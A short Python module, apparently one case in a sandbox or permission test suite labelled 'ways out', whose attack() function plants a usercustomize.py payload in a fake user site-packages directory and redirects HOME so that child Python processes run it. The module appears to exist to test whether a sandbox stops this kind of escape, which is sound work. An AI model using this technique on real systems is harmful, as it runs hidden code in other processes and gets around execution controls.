"""HOME is planted, where the application's child has its user directory."""
CATEGORY = "ways out"
REACH = "run"
POLICIES = "allow"
GRANT = {"run": False}

import os

from . import payload


def attack():
    path = payload.ROOT + f"/tmp/.local/lib/{payload.LIBRARY}/site-packages"
    os.makedirs(path)
    with open(path + "/usercustomize.py", "w") as file:
        file.write(payload.SOURCE)
    os.environ["HOME"] = payload.ROOT + "/tmp"
